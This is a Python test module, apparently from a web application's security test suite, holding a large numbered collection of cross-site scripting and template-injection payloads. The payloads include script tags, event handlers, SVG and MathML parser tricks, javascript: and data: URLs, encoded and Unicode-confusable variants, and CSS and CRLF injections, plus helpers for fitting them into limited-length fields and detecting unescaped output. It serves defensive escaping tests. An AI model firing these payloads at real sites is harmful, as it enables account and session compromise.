r"""What somebody would write so that a browser takes text for more than text. § is a number, by which a
payload is known wherever it comes out: each holds `xss-§` or calls `xss(§)`."""

import re
import unicodedata
from functools import lru_cache

ELEMENTS = r"""
<script>xss(§)</script>
<script id=xss-§>xss(§)</script>
<ScRiPt>xss(§)</sCrIpT>
<script src=//xss.example/xss-§></script>
<script/x>xss(§)</script>
<script type=module>xss(§)</script>
<<script>xss(§);//<</script>
<scr<script>ipt>xss(§)</scr</script>ipt>
<img src=x onerror=xss(§)>
<IMG SRC=x OnErRoR=xss(§)>
<img/src=x/onerror=xss(§)>
<img src=x onerror="xss(§)">
<img src=x onerror='xss(§)'>
<img src=x onerror=`xss(§)`>
<img src="x"onerror="xss(§)">
<img srcset=x onerror=xss(§)>
<img src=x onerror=alert('xss-§')>
<img src=x onerror=confirm('xss-§')>
<img src=x onerror=prompt('xss-§')>
<img id=xss-§ src=x onerror=window['xss'](§)>
<img src=//xss.example/xss-§>
<img src=x onerror=xss(§)//
<picture><source srcset=//xss.example/xss-§><img></picture>
<video src=x onerror=xss(§)></video>
<video><source onerror=xss(§)></video>
<video poster=//xss.example/xss-§></video>
<audio src=x onerror=xss(§)></audio>
<track src=//xss.example/xss-§ onerror=xss(§)>
<body onload=xss(§)>
<body onpageshow=xss(§)>
<html onclick=xss(§)>
<iframe src=javascript:xss(§)></iframe>
<iframe srcdoc="<script>top.xss(§)</script>"></iframe>
<iframe onload=xss(§)></iframe>
<iframe src=//xss.example/xss-§>
<frameset onload=xss(§)>
<object data=javascript:xss(§)></object>
<object data=//xss.example/xss-§></object>
<embed src=javascript:xss(§)>
<embed src=//xss.example/xss-§>
<applet code=xss-§ archive=//xss.example/></applet>
<base href=//xss.example/xss-§/>
<base href=javascript:xss(§)//>
<meta http-equiv=refresh content=0;url=//xss.example/xss-§>
<meta http-equiv=set-cookie content=xss-§=1>
<link rel=stylesheet href=//xss.example/xss-§>
<link rel=preload as=image href=//xss.example/xss-§>
<form action=//xss.example/xss-§><button>x</button></form>
<form id=xss-§><input name=action></form>
<form><button formaction=javascript:xss(§)>x</button></form>
<button form=form formaction=//xss.example/xss-§>x</button>
<input autofocus onfocus=xss(§)>
<input type=image src=//xss.example/xss-§>
<select autofocus onfocus=xss(§)></select>
<textarea autofocus onfocus=xss(§)></textarea>
<details open ontoggle=xss(§)>x</details>
<dialog open onclose=xss(§)>x</dialog>
<marquee onstart=xss(§)>x</marquee>
<marquee behavior=alternate onbounce=xss(§)>
<a href=javascript:xss(§) id=xss-§>x</a>
<a href=//xss.example/xss-§ ping=//xss.example/xss-§>x</a>
<area href=javascript:xss(§)>
<table background=//xss.example/xss-§>
<bgsound src=javascript:xss(§)>
<isindex action=javascript:xss(§)>
<keygen autofocus onfocus=xss(§)>
<portal src=//xss.example/xss-§>
<template shadowrootmode=open><b id=xss-§></template>
<slot onslotchange=xss(§)></slot>
<x onclick=xss(§) id=xss-§ tabindex=1>x
<x contenteditable onblur=xss(§)>x
<p style=animation-name:x onanimationstart=xss(§)>
<div id=xss-§ style=width:expression(xss(§))>
<div popover id=xss-§ onbeforetoggle=xss(§)>
<plaintext id=xss-§>
<xmp id=xss-§>
<listing id=xss-§>
<noembed><b id=xss-§></noembed>
<noframes><b id=xss-§></noframes>
<noscript><b id=xss-§></noscript>
"""

ENDINGS = r"""
</script><script>xss(§)</script>
</script><img src=x onerror=xss(§)>
</SCRIPT ><b id=xss-§>
</title><img src=x onerror=xss(§)>
</textarea><img src=x onerror=xss(§)>
</style><img src=x onerror=xss(§)>
</noscript><img src=x onerror=xss(§)>
</option></select><img src=x onerror=xss(§)>
</template><img src=x onerror=xss(§)>
</iframe><img src=x onerror=xss(§)>
</xmp><img src=x onerror=xss(§)>
</a></h3></article></main><b id=xss-§>
</dd></div></dl><b id=xss-§>
</body></html><b id=xss-§>
--><img src=x onerror=xss(§)>
--!><img src=x onerror=xss(§)>
]]><img src=x onerror=xss(§)>
?><img src=x onerror=xss(§)>
%><img src=x onerror=xss(§)>
<!--><img src=x onerror=xss(§)>-->
<!--<img src="--><img src=x onerror=xss(§)>">
<![CDATA[><img src=x onerror=xss(§)>]]>
<?xml-stylesheet href="javascript:xss(§)"?>
<!doctype html><b id=xss-§>
"""

ATTRIBUTES = r"""
"><img src=x onerror=xss(§)>
'><img src=x onerror=xss(§)>
><img src=x onerror=xss(§)>
" onfocus=xss(§) autofocus x="
' onfocus=xss(§) autofocus x='
` onfocus=xss(§) autofocus x=`
" onmouseover="xss(§)
' onmouseover='xss(§)
x onfocus=xss(§) autofocus
x/onfocus=xss(§)/autofocus
" style="background:url(//xss.example/xss-§)
" srcset="//xss.example/xss-§
" formaction="javascript:xss(§)
" href="javascript:xss(§)
" id="xss-§
"onclick="xss(§)"x="
\" onfocus=xss(§) x=\"
" accesskey=x onclick=xss(§) "
"/><script>xss(§)</script>
'/><svg onload=xss(§)>
" hidden="until-found" onbeforematch="xss(§)
" lang="x" onclick="xss(§)
"""

DRAWINGS = r"""
<svg onload=xss(§)>
<svg/onload=xss(§)>
<svg><script>xss(§)</script></svg>
<svg><script href=//xss.example/xss-§ /></svg>
<svg><a xlink:href=javascript:xss(§)><text>x</text></a></svg>
<svg><animate onbegin=xss(§) attributeName=x dur=1s>
<svg><set onbegin=xss(§) attributeName=x>
<svg><animate attributeName=href values=javascript:xss(§) id=xss-§>
<svg><use href=//xss.example/xss-§#x></svg>
<svg><image href=//xss.example/xss-§></svg>
<svg><foreignObject><b id=xss-§></b></foreignObject></svg>
<svg><style>@import"//xss.example/xss-§"</style></svg>
<svg><title><img src=x onerror=xss(§)></title></svg>
<svg><desc><img src=x onerror=xss(§)></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=xss(§)>">
<svg><!--<img title="--><img src=x onerror=xss(§)>">
<math href=javascript:xss(§)>x</math>
<math><a xlink:href=javascript:xss(§)>x</a></math>
<math><mi onclick=xss(§)>x</mi></math>
<math><mtext><img src=x onerror=xss(§)></mtext></math>
<math><annotation-xml encoding=text/html><img src=x onerror=xss(§)>
<math><mtext><table><mglyph><style><img src=x onerror=xss(§)>
<math><maction actiontype=statusline xlink:href=javascript:xss(§)>x
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss(§)>
"""

ADDRESSES = r"""
javascript:xss(§)
JaVaScRiPt:xss(§)
javascript://x%0axss(§)
javascript:/*--></title></style></textarea>*/xss(§)
javascript&colon;xss(§)
&#106;avascript:xss(§)
&#x6a;avascript&#58;xss(§)
java%73cript:xss(§)
vbscript:msgbox("xss-§")
data:text/html,<script>xss(§)</script>
data:text/html;base64,PHN2Zy9vbmxvYWQ9eHNzKCk+#xss-§
data:image/svg+xml,<svg onload=xss(§)>
data:,xss-§
//xss.example/xss-§
https://xss.example/xss-§
https:xss.example/xss-§
\\xss.example\xss-§
/\xss.example/xss-§
/%09/xss.example/xss-§
https://127.0.0.1@xss.example/xss-§
feed:javascript:xss(§)
view-source:javascript:xss(§)
blob:https://xss.example/xss-§
[x](javascript:xss(§))
![x](//xss.example/xss-§)
<javascript:xss(§)>
<https://xss.example/xss-§>
"""

TEMPLATES = r"""
{{xss-§}}
{{{xss-§}}}
{{&frame.home}} xss-§
{{{frame.member}}} xss-§
{{> Card}} xss-§
{{<Frame}}{{$main}}<b id=xss-§>{{/main}}{{/Frame}}
{{#frame}}<b id=xss-§>{{/frame}}
{{^x}}<img src=x onerror=xss(§)>{{/x}}
{{=<% %>=}}<%&frame.home%> xss-§
{{% CONTENT_TYPE: TEXT}}<b id=xss-§>
{{!x}} xss-§
{{text.floor.name}} xss-§
{name} {title} {words} {reference} xss-§
{organisation} {reason} {supply} {demand} xss-§
{{constructor.constructor('xss(§)')()}}
{{$on.constructor('xss(§)')()}}
{{7*7}} xss-§
${xss(§)}
#{xss(§)}
*{xss(§)}
[[${xss(§)}]]
<%= xss(§) %>
<?= xss(§) ?>
{% raw %}<b id=xss-§>{% endraw %}
@{xss(§)}
~{xss(§)}
\(xss(§))
%s%n%@ xss-§
$(xss(§)) `xss(§)`
%{xss-§}
"""

SCRIPTS = r"""
"}</script><script>xss(§)</script>
"}]}</script><img src=x onerror=xss(§)>
"-xss(§)-"
'-xss(§)-'
`-xss(§)-`
";xss(§);//
';xss(§);//
\";xss(§);//
\';xss(§);//
\u003cimg src=x onerror=xss(§)\u003e
\x3cimg src=x onerror=xss(§)\x3e
\74img src=x onerror=xss(§)\76
"+xss(§)+"
${'a'.constructor.constructor('xss(§)')()}
<!--<script>xss(§)
","@id":"javascript:xss(§)
{"__proto__":{"src":"//xss.example/xss-§"}}
*/xss(§)/*
);xss(§);(
"""

STYLES = r"""
<style>@import"//xss.example/xss-§";</style>
<style>*{background:url(//xss.example/xss-§)}</style>
}*{background:url(//xss.example/xss-§)}
;background:url(//xss.example/xss-§)
;behavior:url(//xss.example/xss-§)
;-moz-binding:url(//xss.example/xss-§#x)
expression(xss(§))
@import'//xss.example/xss-§';
@font-face{src:url(//xss.example/xss-§)}
</style><b id=xss-§>
/*</style>*/<b id=xss-§>
\3c b id=xss-§\3e
input[value^=a]{background:url(//xss.example/xss-§)}
:root{--x:url(//xss.example/xss-§)}
"""

ENCODED = r"""
&lt;img src=x onerror=xss(§)&gt;
&#60;img src=x onerror=xss(§)&#62;
&#x3c;img src=x onerror=xss(§)&#x3e;
&#0000060img src=x onerror=xss(§)&#0000062
&ltimg src=x onerror=xss(§)&gt
&amp;lt;img src=x onerror=xss(§)&amp;gt;
&amp;#60;b id=xss-§&amp;#62;
&quot; onfocus=xss(§) x=&quot;
&#34; onfocus=xss(§) x=&#34;
&apos; onfocus=xss(§) x=&apos;
&lbrace;&lbrace;xss-§&rbrace;&rbrace;
&NewLine;javascript&colon;xss(§)
&Tab;<b id=xss-§>
%3Cimg src=x onerror=xss(§)%3E
%253Cb id=xss-§%253E
%22 onfocus=xss(§) x=%22
+ADw-script+AD4-xss(§)+ADw-/script+AD4-
=3Cb id=3Dxss-§=3E
%0d%0aSet-Cookie: xss-§=1
%0d%0a%0d%0a<b id=xss-§>
＜img src=x onerror=xss(§)＞
﹤b id=xss-§﹥
≮b id=xss-§≯
＂ onfocus=xss(§) x=＂
＇ onfocus=xss(§) x=＇
ʺ onfocus=xss(§) x=ʺ
｛｛frame.home｝｝ xss-§
＆lt;b id=xss-§＆gt;
‹b id=xss-§›
"""

SEVERAL_LINES = [
    "<img\nsrc=x\nonerror=xss(§)>", '<a href="java\tscript:xss(§)" id=xss-§>x</a>',
    '<a href="java\nscript:xss(§)" id=xss-§>x</a>', '"\nonfocus=xss(§)\nx="', '"\tonfocus=xss(§)\tx="',
    "<script>\nxss(§)\n</script>", "\r\n\r\n<b id=xss-§>", "\u2028<b id=xss-§>\u2029", "'\n;xss(§)\n//",
    "\n--xss-§\nContent-Type: text/html\n\n<b id=xss-§>"]

UNSEEN = [
    "\u200b<b id=xss-§>", "\u00ad<b id=xss-§>", "\ufeff<b id=xss-§>", "\u202e<b id=xss-§>",
    "\u2066<b id=xss-§>", "\u034f<b id=xss-§>", "\u061c<b id=xss-§>", "\U000e0041<b id=xss-§>",
    "<\u200dscript>xss(§)</script>",
    "👩\u200d🌾<b id=xss-§>", "\u1100\u1161<b id=xss-§>", "\U0001f1fb\U0001f1f3\"><b id=xss-§>",
    "\u0e33<b id=xss-§>",
    "\u0600\u0600<b id=xss-§>", "\U000110bd\"><b id=xss-§>", "\u06dd'><b id=xss-§>", "\u2062<b id=xss-§>",
    "\u0301\u0301\"><b id=xss-§>"]

# What means something somewhere, and what would follow it there.
SPECIAL = {
    "<": "b id=xss-§>", ">": "<b id=xss-§>", '"': ' onfocus=xss(§) x="', "'": " onfocus=xss(§) x='",
    "`": " onfocus=xss(§) x=`", "&": "lt;b id=xss-§&gt;", "/": "><b id=xss-§>", "=": "xss(§)><b id=xss-§>",
    "\\": '"><b id=xss-§>', "{": "{frame.home}} xss-§", "}": "}{{heading}} xss-§"}
# What becomes one Character with its neighbour: combining marks (the second composes), a prepend, a joiner.
COMPANIONS = ("\u0301", "\u0338", "\u0600", "\u200d")


def companies():
    """Every special character with a companion before it and after it."""
    for character, rest in SPECIAL.items():
        for companion in COMPANIONS:
            yield companion + character + rest
            yield character + companion + rest


def written():
    for lines in (ELEMENTS, ENDINGS, ATTRIBUTES, DRAWINGS, ADDRESSES, TEMPLATES, SCRIPTS, STYLES, ENCODED):
        yield from lines.strip().splitlines()
    yield from SEVERAL_LINES + UNSEEN
    yield from companies()


PAYLOADS = [payload.replace("§", str(number)) for number, payload in enumerate(dict.fromkeys(written()), 1)]
NUMBER = re.compile(r"xss[-(](\d+)")
# Headings, names and labels are one line, and shorter than running text.
ONE_LINE = 300


def fitting(limit):
    """The payloads that a field of so many characters takes."""
    refused = "\t\n\r\u2028\u2029" if limit <= ONE_LINE else ""
    return [payload for payload in PAYLOADS if len(payload) <= limit and not set(refused) & set(payload)]


@lru_cache(maxsize=None)
def packed(limit):
    """All of them in as few texts as hold them: the longest first, each where there is room."""
    packs = []
    for payload in sorted(fitting(limit), key=len, reverse=True):
        roomy = (place for place, pack in enumerate(packs) if len(pack) + 1 + len(payload) <= limit)
        place = next(roomy, None)
        if place is None:
            packs.append(payload)
        else:
            packs[place] += f" {payload}"
    return packs


def squeezed(text):
    """As texts are compared: composed, and without what lines and pages are made of."""
    return re.sub(r"\s", "", unicodedata.normalize("NFC", text))


SQUEEZED = {str(number): squeezed(payload) for number, payload in enumerate(PAYLOADS, 1)}


def shown_whole(text):
    """The numbers of the payloads that a text holds letter by letter."""
    text = squeezed(text)
    return {int(number) for number in set(NUMBER.findall(text)) if SQUEEZED.get(number, "\0") in text}
